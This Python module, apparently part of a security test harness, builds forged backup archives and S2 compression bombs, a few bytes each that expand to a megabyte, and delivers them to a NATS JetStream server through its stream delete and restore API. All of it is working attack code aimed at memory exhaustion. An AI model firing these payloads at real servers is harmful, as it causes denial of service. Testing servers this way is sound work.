"""Forged backups: archives, and S2 streams of a few bytes that decompress to very many."""

import struct
import zlib

from attacks.grounds import ask
from harness.peer import Peer

ARCHIVE = b"FLBackup" + struct.pack("<H", 1)
STREAM = b"\xff\x06\0\0S2sTwO"
BLOCK_BYTES = 1 << 20


def crc32c_table() -> list[int]:
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    return table


TABLE = crc32c_table()


def masked_checksum(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for byte in data:
        crc = TABLE[(crc ^ byte) & 0xFF] ^ crc >> 8
    crc ^= 0xFFFFFFFF
    return ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF


def chunk(kind: int, body: bytes, plain: bytes) -> bytes:
    body = struct.pack("<I", masked_checksum(plain)) + body
    return bytes([kind]) + struct.pack("<I", len(body))[:3] + body


def begin(plain: bytes) -> bytes:
    """Returns the beginning of an S2 stream, with these bytes."""
    return STREAM + chunk(1, plain, plain)


def bomb(pattern: bytes, times: int) -> bytes:
    """Returns compressed chunks of about thirty bytes each. Each decompresses to one megabyte of a repeated
    pattern."""
    size = len(pattern)
    total = BLOCK_BYTES // size * size
    length = bytes([total & 127 | 128, total >> 7 & 127 | 128, total >> 14])
    left = struct.pack("<I", total - size - 1 - 65_540)[:3]
    block = length + bytes([(size - 1) << 2]) + pattern + bytes([2, size & 255, size >> 8, 7 << 2 | 1, 0]) + left
    return chunk(0, block, pattern * (total // size)) * times


def archive_frame(kind: int, body: bytes) -> bytes:
    return bytes([kind]) + struct.pack("<II", len(body), zlib.crc32(body)) + body


def archive_record(sequence: int, subject: bytes, payload: bytes, headers: bytes = b"") -> bytes:
    head = struct.pack("<QqqHI", sequence, 1, 0, len(subject), len(headers))
    return archive_frame(1, head + subject + headers + payload)


def archive_consumer(config: bytes, state: bytes = b"") -> bytes:
    return archive_frame(2, struct.pack("<I", len(config)) + config + state)


def archive_skip(sequence: int) -> bytes:
    return archive_frame(3, struct.pack("<Q", sequence))


def archive_end(sequence: int) -> bytes:
    return archive_skip(sequence) + archive_frame(4, b"")


def restore(peer: Peer, name: str, piece: bytes, **config) -> dict:
    """Restores a stream from one piece. Returns the response to the piece, or to the end if the piece was
    accepted."""
    ask(peer, f"$JS.API.STREAM.DELETE.{name}", b"")
    config = {"name": name, "subjects": [f"s.{name}.>"], "storage": "memory"} | config
    begun = ask(peer, f"$JS.API.STREAM.RESTORE.{name}", {"config": config, "state": {}})
    subject = begun["deliver_subject"]
    found = ask(peer, subject, piece)
    return ask(peer, subject, b"") if found.get("text") == "" else found
